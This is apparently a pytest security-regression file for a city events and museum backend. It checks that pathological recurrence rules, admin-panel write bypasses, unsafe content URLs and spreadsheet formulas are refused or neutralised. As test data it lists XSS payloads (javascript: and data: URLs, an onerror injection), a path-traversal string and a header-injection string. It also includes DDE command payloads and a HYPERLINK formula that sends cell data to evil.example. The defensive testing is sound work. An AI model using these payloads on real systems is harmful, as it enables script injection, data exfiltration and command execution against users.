"""Issue 15, findings 1, 2 and 6, by class:

- recurrence rules: every rule the catalogue can't expand cheaply is refused where it is written
  (fast), and one already stored leaves only its own event out;
- Piccolo Admin can't bypass the publishing flow: it is read-only for everyone (status, history,
  who approved, any field), and the transition log is append-only in the database too;
- URLs from content are https: or /media/ only, on every write path (API bodies, content files), and
  a bad one stored earlier is not handed out;
- CSV exports never start a cell with what a spreadsheet runs as a formula, in every dataset.
"""

from __future__ import annotations

import csv
import io
import time
import tomllib
import uuid
from datetime import UTC, datetime, timedelta

import msgspec
import pytest

from backend.events.content import parse_event_content
from backend.events.services import events, search_text
from backend.events.tables import Event
from backend.exhibitions.content import parse_exhibition_content
from backend.exhibitions.tables import Exhibition
from backend.lib.clock import clock
from backend.opendata.datasets import DATASETS
from backend.opendata.services import FORMULA_STARTS, csv_cell, opendata
from backend.publishing.tables import Transition
from backend.tours.schemas import TourContent
from backend.venues.services import catalog, parse_venue_content
from backend.venues.tables import Venue
from tests.conftest import ROOT

pytestmark = pytest.mark.anyio


def _event_body(slug: str, **extra) -> dict:
    start = (clock.now() + timedelta(days=3)).replace(microsecond=0)
    return {
        "slug": slug,
        "title": {"zh": f"安全测试{slug[-6:]}", "en": f"Security test {slug[-6:]}"},
        "category": "performance",
        "venue_slug": "qingguo-lane",
        "starts_at": start.isoformat(),
        "ends_at": (start + timedelta(hours=2)).isoformat(),
        **extra,
    }


# ---------------------------------------------------------------- recurrence rules (finding 1)

NASTY_RULES = (
    "FREQ=MINUTELY;BYMONTH=2;BYMONTHDAY=30",  # the review's example: 13-20 s in python-dateutil
    "FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30",
    "FREQ=SECONDLY;INTERVAL=1;COUNT=40000000",  # one a second for more than 400 days
    "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=31",
    "FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30",
    "FREQ=MONTHLY;BYDAY=MO;BYSETPOS=6",
    "FREQ=YEARLY;BYDAY=MO;BYSETPOS=300",
    "FREQ=DAILY;INTERVAL=7;BYDAY=MO,WE,TH,FR,SA,SU",  # from a Tuesday: never one of these days
    "FREQ=DAILY;COUNT=99999999",
    "FREQ=HOURLY",
    "FREQ=DAILY;BYHOUR=0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23;BYMINUTE=0,30",
)


async def test_rules_the_catalogue_cant_expand_cheaply_are_refused_fast(client, make_account):
    h = (await make_account("marketer"))["headers"]
    start = datetime(2027, 3, 2, 10, tzinfo=UTC)  # a Tuesday: the INTERVAL=7 rule never meets its days
    slug = f"sec-rule-{uuid.uuid4().hex[:8]}"
    ok = await client.post("/api/v1/admin/events", json=_event_body(slug, rrule="FREQ=WEEKLY;COUNT=3"), headers=h)
    assert ok.status_code == 201, ok.text
    for rule in NASTY_RULES:
        body = _event_body(
            f"{slug}-x", rrule=rule, starts_at=start.isoformat(), ends_at=(start + timedelta(hours=1)).isoformat()
        )
        for method, url, json in (
            ("POST", "/api/v1/admin/events", body),
            (
                "PATCH",
                f"/api/v1/admin/events/{ok.json()['id']}",
                {"rrule": rule, "starts_at": body["starts_at"], "ends_at": body["ends_at"]},
            ),
        ):
            t0 = time.perf_counter()
            res = await client.request(method, url, json=json, headers=h)
            took = time.perf_counter() - t0
            assert res.status_code == 400 and res.json()["code"] == "invalid_rrule", (rule, method, res.text)
            assert took < 1.0, f"{method} {rule}: {took:.1f} s"


async def _store_event_bypassing_the_api(slug: str, rrule: str) -> None:
    start = clock.now().replace(microsecond=0) + timedelta(days=2)
    await Event.insert(
        Event(
            slug=slug,
            category="performance",
            district="tianning",
            title_zh="存量规则",
            title_en="Stored rule",
            lat=31.78,
            lng=119.95,
            starts_at=start,
            ends_at=start + timedelta(hours=1),
            rrule=rrule,
            exdates=[],
            search_text=search_text("存量规则", "Stored rule"),
            status="published",
            published_at=start - timedelta(days=3),
        )
    )


async def test_a_bad_rule_already_stored_leaves_only_its_event_out(client):
    tag = uuid.uuid4().hex[:8]
    bad = {
        f"sec-stored-a-{tag}": "FREQ=FORTNIGHTLY",  # unparseable: every GET /events answered 400 before
        f"sec-stored-b-{tag}": "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=31",  # never matches: GET /events/{slug} 500
        f"sec-stored-c-{tag}": "FREQ=MONTHLY;BYDAY=MO;BYSETPOS=6",
    }
    good = f"sec-stored-ok-{tag}"
    for slug, rule in bad.items():
        await _store_event_bypassing_the_api(slug, rule)
    await _store_event_bypassing_the_api(good, "FREQ=WEEKLY;COUNT=4")
    try:
        await events.changed()
        t0 = time.perf_counter()
        listed = await client.get("/api/v1/events", params={"q": "存量规则", "limit": 50})
        assert time.perf_counter() - t0 < 1.0
        assert listed.status_code == 200, listed.text
        assert {i["slug"] for i in listed.json()["items"]} == {good}
        assert (await client.get("/api/v1/events.ics")).status_code == 200
        assert (await client.get(f"/api/v1/events/{good}")).status_code == 200
        for slug in bad:
            res = await client.get(f"/api/v1/events/{slug}")
            assert res.status_code == 404 and res.json()["code"] == "event_not_found"
    finally:
        await Event.delete().where(Event.slug.is_in([*bad, good]))
        await events.changed()


# ---------------------------------------------------------------- Piccolo Admin (finding 2)


async def _admin(client, headers, method: str, path: str, **kw):
    """A call to Piccolo Admin's API as its own UI makes it (with its CSRF cookie and header)."""
    await client.get("/admin/api/tables/", headers=headers)
    token = client.cookies.get("csrftoken", "")
    return await client.request(method, f"/admin/api{path}", headers={**headers, "X-CSRFToken": token}, **kw)


async def test_admin_cant_publish_rewrite_history_or_store_what_the_api_refuses(client, make_account):
    marketer = await make_account("marketer")
    admin = await make_account("admin")
    h = marketer["headers"]
    slug = f"sec-admin-{uuid.uuid4().hex[:8]}"
    item = (await client.post("/api/v1/admin/events", json=_event_body(slug), headers=h)).json()
    moved = await client.post(f"/api/v1/admin/events/{item['id']}/transition", json={"to": "in_review"}, headers=h)
    assert moved.status_code == 200
    log = await Transition.select().where((Transition.kind == "events") & (Transition.item_id == item["id"]))
    assert len(log) == 1

    ex = await Exhibition.select(Exhibition.id).first()
    writes = [
        ("PATCH", f"/tables/events/{item['id']}/", {"status": "published", "published_at": clock.now().isoformat()}),
        ("PATCH", f"/tables/events/{item['id']}/", {"rrule": "FREQ=MINUTELY;BYMONTH=2;BYMONTHDAY=30"}),
        ("PUT", f"/tables/events/{item['id']}/", {"status": "published"}),
        ("POST", "/tables/events/", {**_event_body(slug + "-2"), "status": "published"}),
        ("DELETE", f"/tables/events/{item['id']}/", None),
        ("PATCH", f"/tables/exhibitions/{ex['id']}/", {"rights": "javascript:alert(document.cookie)"}),
        ("DELETE", f"/tables/publication_transitions/{log[0]['id']}/", None),
        ("PATCH", f"/tables/publication_transitions/{log[0]['id']}/", {"user_id": admin["id"]}),
        (
            "POST",
            "/tables/publication_transitions/",
            {"kind": "events", "item_id": item["id"], "to_state": "published"},
        ),
        ("DELETE", "/tables/publication_transitions/", None),
    ]
    for who in (h, admin["headers"]):
        for method, path, body in writes:
            res = (
                await _admin(client, who, method, path, json=body) if body else await _admin(client, who, method, path)
            )
            assert res.status_code == 405 and res.json()["code"] == "admin_read_only", (method, path, res.text)

    row = await Event.select(Event.status, Event.rrule).where(Event.id == item["id"]).first()
    assert row == {"status": "in_review", "rrule": ""}
    assert (await Exhibition.select(Exhibition.rights).where(Exhibition.id == ex["id"]).first())["rights"].startswith(
        "https://"
    )
    after = await Transition.select().where((Transition.kind == "events") & (Transition.item_id == item["id"]))
    assert after == log
    # reading stays open to marketers
    rows = await client.get("/admin/api/tables/publication_transitions/", headers=h)
    assert rows.status_code == 200


async def test_the_transition_log_is_append_only_in_the_database(client, make_account):
    h = (await make_account("marketer"))["headers"]
    item = (
        await client.post("/api/v1/admin/events", json=_event_body(f"sec-log-{uuid.uuid4().hex[:8]}"), headers=h)
    ).json()
    await client.post(f"/api/v1/admin/events/{item['id']}/transition", json={"to": "in_review"}, headers=h)
    where = (Transition.kind == "events") & (Transition.item_id == item["id"])
    with pytest.raises(Exception, match="append-only"):
        await Transition.update({Transition.user_id: 1}).where(where)
    with pytest.raises(Exception, match="append-only"):
        await Transition.delete().where(where)
    assert len(await Transition.select().where(where)) == 1


# ---------------------------------------------------------------- URLs from content (finding 2)

BAD_URLS = (
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "http://creativecommons.org/licenses/by/4.0/",
    "//evil.example/x.png",
    "/media/../../etc/passwd",
    "/media//evil.example/x.png",
    'https://evil.example/x.png" onerror="alert(1)',
    "https://user@evil.example/",
    "https://x.example/\nSet-Cookie: a=b",
)


async def test_content_urls_are_https_or_media_on_every_api_write(client, make_account):
    h = (await make_account("marketer"))["headers"]
    tag = uuid.uuid4().hex[:6]
    event = (await client.post("/api/v1/admin/events", json=_event_body(f"sec-url-{tag}"), headers=h)).json()
    article = await client.post(
        "/api/v1/admin/articles",
        json={"slug": f"sec-url-a-{tag}", "kind": "news", "title": {"zh": "链接", "en": "Links"}},
        headers=h,
    )
    exhibition = await client.post(
        "/api/v1/admin/exhibitions",
        json={
            "slug": f"sec-url-x-{tag}",
            "title": {"zh": "链接展", "en": "Links show"},
            "rights": "https://creativecommons.org/licenses/by/4.0/",
        },
        headers=h,
    )
    assert article.status_code == 201 and exhibition.status_code == 201, (article.text, exhibition.text)
    a = {"zh": "a", "en": "a"}
    for url in BAD_URLS:
        writes = (
            ("POST", "/api/v1/admin/events", _event_body(f"sec-url-{tag}-2", image=url)),
            ("PATCH", f"/api/v1/admin/events/{event['id']}", {"image": url}),
            (
                "POST",
                "/api/v1/admin/articles",
                {"slug": f"sec-url-b-{tag}", "kind": "news", "title": a, "image": url},
            ),
            ("PATCH", f"/api/v1/admin/articles/{article.json()['id']}", {"image": url}),
            ("PATCH", f"/api/v1/admin/exhibitions/{exhibition.json()['id']}", {"rights": url}),
            (
                "POST",
                "/api/v1/admin/exhibitions",
                {"slug": f"sec-url-y-{tag}", "title": a, "rights": url},
            ),
        )
        for method, path, body in writes:
            res = await client.request(method, path, json=body, headers=h)
            assert res.status_code == 400, (method, path, url, res.text)
    for url in ("https://img.example.cn/a.png", "/media/events/a.png"):
        res = await client.patch(f"/api/v1/admin/events/{event['id']}", json={"image": url}, headers=h)
        assert res.status_code == 200 and res.json()["image"] == url


def test_content_files_with_unsafe_urls_are_refused(tmp_path):
    event = {
        "slug": "sec-file-event",
        "category": "performance",
        "title": {"zh": "文件", "en": "File"},
        "summary": {"zh": "", "en": ""},
        "starts_at": "2027-01-01T10:00:00+08:00",
        "ends_at": "2027-01-01T11:00:00+08:00",
        "venue_slug": "qingguo-lane",
    }
    exhibition = {
        "slug": "sec-file-show",
        "title": {"zh": "展", "en": "Show"},
        "summary": {"zh": "展", "en": "Show"},
        "attribution": {"zh": "馆", "en": "Museum"},
        "rights": "https://creativecommons.org/licenses/by/4.0/",
        "item": [{"key": "one", "label": {"zh": "一", "en": "One"}, "commentary": {"zh": "一", "en": "One"}}],
    }
    for url in BAD_URLS:
        with pytest.raises(ValueError, match="image"):
            parse_event_content([{**event, "image": url}])
        with pytest.raises(ValueError, match="rights"):
            parse_exhibition_content([{**exhibition, "rights": url}], tmp_path)
        with pytest.raises(msgspec.ValidationError, match="images"):
            msgspec.convert({"slug": "sec-tour", "title": {"zh": "a", "en": "a"}, "summary": {"zh": "a", "en": "a"},
                             "duration_min": 30, "images": [url], "stop": []}, TourContent)  # fmt: skip
        with pytest.raises((ValueError, msgspec.ValidationError), match="website"):
            parse_venue_content([{**VENUE_ROW, "website": url}])


VENUE_ROW = tomllib.loads((ROOT / "content" / "venues.toml").read_text(encoding="utf-8"))["venue"][0]


async def test_an_unsafe_venue_website_stored_earlier_is_not_handed_out(client):
    slug = VENUE_ROW["slug"]
    row = await Venue.select(Venue.id, Venue.website).where(Venue.slug == slug).first()
    await Venue.update({Venue.website: "javascript:alert(document.cookie)"}).where(Venue.id == row["id"])
    catalog.invalidate()
    try:
        assert (await client.get(f"/api/v1/venues/{slug}")).json().get("website") in (None, "")
    finally:
        await Venue.update({Venue.website: row["website"]}).where(Venue.id == row["id"])
        catalog.invalidate()


async def test_an_unsafe_url_stored_earlier_is_not_handed_out(client):
    row = (
        await Exhibition.select(Exhibition.id, Exhibition.slug, Exhibition.rights)
        .where(Exhibition.status == "published")
        .first()
    )
    await Exhibition.update({Exhibition.rights: "javascript:alert(document.cookie)"}).where(Exhibition.id == row["id"])
    try:
        detail = (await client.get(f"/api/v1/exhibitions/{row['slug']}")).json()
        assert detail["rights"] == ""
        manifest = (await client.get(f"/api/v1/exhibitions/{row['slug']}/manifest.json")).json()
        assert "rights" not in manifest
    finally:
        await Exhibition.update({Exhibition.rights: row["rights"]}).where(Exhibition.id == row["id"])


# ---------------------------------------------------------------- CSV formula injection (finding 6)

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",  # full-width
)


def test_the_csv_cell_writer_neutralises_every_formula_start():
    for value in FORMULAS:
        assert csv_cell(value).startswith("'"), value
    assert csv_cell("常州博物馆") == "常州博物馆" and csv_cell(-3.5) == -3.5 and csv_cell(True) == "true"


def _cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


async def test_no_dataset_exports_a_formula(client):
    from backend.amenities.tables import Amenity

    tag = uuid.uuid4().hex[:8]
    slug = f"sec-csv-{tag}"
    start = clock.now().replace(microsecond=0) + timedelta(days=1)
    await Event.insert(
        Event(
            slug=slug,
            category="performance",
            district="tianning",
            title_zh=FORMULAS[0],
            title_en=FORMULAS[1],
            place_zh=FORMULAS[3],
            place_en=FORMULAS[4],
            lat=31.78,
            lng=119.95,
            starts_at=start,
            ends_at=start + timedelta(hours=1),
            rrule="",
            exdates=[],
            status="published",
            published_at=start - timedelta(days=1),
        )
    )
    amenity = await Amenity.select().first()
    await Amenity.insert(
        Amenity(
            **{
                **{k: v for k, v in amenity.items() if k != "id"},
                "ext_id": f"sec/{tag}",
                "name_zh": FORMULAS[2],
                "name_en": FORMULAS[5],
                "operator": FORMULAS[6],
                "opening_hours": FORMULAS[7],
            }
        )  # fmt: skip
    )
    try:
        await events.changed()
        opendata.forget()
        seen = set()
        for name in DATASETS:
            for lang in ("zh", "en"):
                res = await client.get(f"/api/v1/opendata/{name}.csv", params={"lang": lang})
                assert res.status_code == 200 and res.headers["content-type"].startswith("text/csv")
                for cell in _cells(res.content):
                    assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (name, cell)
                    if cell.startswith("'"):
                        seen.add(cell[1:])
        assert {FORMULAS[0], FORMULAS[2]} <= seen  # the formulas are there, as text
    finally:
        await Event.delete().where(Event.slug == slug)
        await Amenity.delete().where(Amenity.ext_id == f"sec/{tag}")
        await events.changed()
        opendata.forget()
